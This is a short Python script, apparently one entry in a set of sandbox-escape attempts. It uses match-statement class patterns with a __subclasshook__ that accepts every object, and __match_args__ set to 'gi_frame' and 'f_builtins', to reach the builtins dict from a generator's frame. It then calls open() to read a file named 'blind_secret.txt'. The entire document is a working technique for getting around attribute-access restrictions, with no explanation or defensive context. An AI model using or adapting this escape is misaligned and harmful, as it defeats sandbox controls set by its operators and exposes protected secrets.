# family: classmach (written blind, second set)
import numbers


class Anything(numbers.Number):
    __match_args__ = ("gi_frame",)

    @classmethod
    def __subclasshook__(cls, other):
        return True


class Table(numbers.Number):
    __match_args__ = ("f_builtins",)

    @classmethod
    def __subclasshook__(cls, other):
        return True


def run(xs: list[int]) -> str:
    g = (x for x in xs)
    match g:
        case Anything(Table(b)):
            return b["open"]("/tmp/r10/work/blind_secret.txt").read()
    return ""


print(run([1]))
